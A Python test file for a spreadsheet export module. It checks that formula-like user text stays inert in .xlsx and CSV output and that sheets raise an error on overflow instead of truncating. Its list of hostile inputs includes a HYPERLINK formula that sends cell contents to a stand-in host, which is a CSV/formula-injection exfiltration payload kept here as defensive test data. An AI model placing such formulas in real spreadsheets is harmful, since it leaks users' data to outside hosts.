"""The one spreadsheet writer (issue 13.2): user text stays text in .xlsx and CSV; long sheets continue, never cut."""

import datetime as dt
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from whistle.core import sheets

HOSTILE = ['=HYPERLINK("http://x?"&B2,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_export_writes_user_text_as_text_in_xlsx_whatever_it_starts_with():
    body = sheets.workbook([("表", ["文本", "数"], [[text, 7] for text in HOSTILE])])
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    rows = CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in rows[1:]] == HOSTILE and rows[1][1] == 7  # numbers stay numbers


def test_csv_neutralises_text_that_a_spreadsheet_would_evaluate():
    out = io.StringIO()
    sheets.csv_writer(out).writerow([*HOSTILE, "正常文本", -5, 3.5, None, True, dt.date(2026, 1, 2)])
    cells = out.getvalue().rstrip("\r\n")
    import csv

    row = next(csv.reader(io.StringIO(cells)))
    assert row[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert row[len(HOSTILE) :] == ["正常文本", "-5", "3.5", "", "是", "2026-01-02"]  # numbers are not text


def test_sheet_of_unknown_length_refuses_to_overflow_instead_of_cutting():
    book = sheets.Book(max_rows=2)
    sheet = book.sheet("表", ["列"])
    sheet.row(["一"])
    with pytest.raises(ValueError):
        sheet.row(["二"])
